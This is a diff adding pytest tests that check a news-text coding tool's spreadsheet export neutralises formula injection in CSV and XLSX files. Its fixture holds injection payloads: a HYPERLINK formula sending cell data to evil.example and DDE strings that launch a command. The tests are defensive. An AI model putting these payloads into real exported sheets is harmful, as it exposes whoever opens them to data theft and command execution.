@@ -411,3 +411,89 @@ def test_recall_sample_needs_a_topic_and_says_when_short(recall_corpus, recall_c
                               topic=r"حلب", n=10)
     assert sorted(drawn["doc_id"]) == ["q1", "q2", "q3", "q4"]
     assert drawn.set_index("doc_id").loc["q4", "keyword"] == "بحلب"
+
+
+# -- spreadsheet formulas ------------------------------------------------------------
+
+# what an article may hold right after a keyword: a spreadsheet would run each as a formula
+FORMULAS = {
+    "eq": '=HYPERLINK("http://evil.example/?q="&A1,"اضغط هنا")',
+    "plus": "+1+cmd|' /C calc'!A0 قال",
+    "minus": "-2+3 قتلى",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_corpus(seed_texts) -> pd.DataFrame:
+    """A seed article four times, each with a formula right after its first المسلحين."""
+    text = seed_texts["000_618f82435d22ff3b"]
+    first = text.index(" المسلحين ") + len(" المسلحين ")
+    rows = [{"doc_id": f"{name}-doc", "outlet": "=Outlet" if name == "eq" else "Outlet",
+             "date": pd.Timestamp("2016-10-02"),
+             "text": text[:first] + formula + " " + text[first:]}
+            for name, formula in FORMULAS.items()]
+    rows.append({"doc_id": "-5", "outlet": "@Outlet", "date": pd.Timestamp("2016-10-03"),
+                 "text": "قال المسلحين '=1+1"})  # a text's own leading ' reads back too
+    return pd.DataFrame(rows)
+
+
+@pytest.fixture(scope="module")
+def formula_sample(formula_corpus, default_matcher) -> pd.DataFrame:
+    hits = framing.score(formula_corpus, default_matcher, progress=False).hits
+    sample = draw_sample(hits, formula_corpus, per_cell=1000, window=4)
+    sample["score"] = -1.5  # a numeric column with negative numbers stays numeric
+    return sample
+
+
+def _trigger_posts(sample: pd.DataFrame) -> pd.Series:
+    return sample["post"][sample["post"].str[:1].isin(["=", "+", "-", "@"])]
+
+
+def test_the_formula_corpus_really_starts_cells_with_formulas(formula_sample):
+    posts = _trigger_posts(formula_sample)
+    assert len(posts) == 4
+    assert sorted(p[0] for p in posts) == ["+", "-", "=", "@"]
+    assert {p[:5] for p in posts} == {f[:5] for f in FORMULAS.values()}
+
+
+def test_csv_sheet_neutralises_formulas_and_reads_them_back(tmp_path, formula_sample):
+    import csv
+
+    path = write_sheet(formula_sample, tmp_path / "sheet.csv")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == len(formula_sample)
+    cells = [v for row in rows for k, v in row.items() if k != "score"]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    expected = {"'" + p for p in _trigger_posts(formula_sample)} | {"''=1+1"}
+    assert {r["post"] for r in rows if r["post"].startswith("'")} == expected
+    assert {r["outlet"] for r in rows} == {"'=Outlet", "Outlet", "'@Outlet"}
+    (quoted,) = [r for r in rows if r["doc_id"] == "'-5"]
+    assert quoted["item_id"].startswith("'-5:")
+    assert quoted["post"] == "''=1+1"  # a leading ' of its own gets one more, to read back
+    assert {r["score"] for r in rows} == {"-1.5"}  # numbers are not text: left as they are
+    with pytest.warns(NotYetCodedWarning):
+        back = read_sheet(path)
+    for column in ("post", "pre", "keyword", "outlet", "doc_id", "item_id"):
+        assert back[column].tolist() == formula_sample[column].astype(str).tolist(), column
+    assert back["start"].tolist() == formula_sample["start"].tolist()
+
+
+def test_xlsx_sheet_neutralises_formulas_and_reads_them_back(tmp_path, formula_sample):
+    path = write_sheet(formula_sample, tmp_path / "sheet.xlsx")
+    book = load_workbook(path)
+    sheet = book["coding"]
+    header = [c.value for c in sheet[1]]
+    values = [dict(zip(header, (c.value for c in row), strict=True))
+              for row in sheet.iter_rows(min_row=2)]
+    texts = [v for row in values for v in row.values() if isinstance(v, str)]
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert {r["post"] for r in values if (r["post"] or "").startswith("'")} == {
+        "'" + p for p in _trigger_posts(formula_sample)} | {"''=1+1"}
+    assert {r["score"] for r in values} == {-1.5}  # a number, not text
+    with pytest.warns(NotYetCodedWarning):
+        back = read_sheet(path)
+    for column in ("post", "pre", "outlet", "doc_id"):
+        assert back[column].tolist() == formula_sample[column].astype(str).tolist(), column
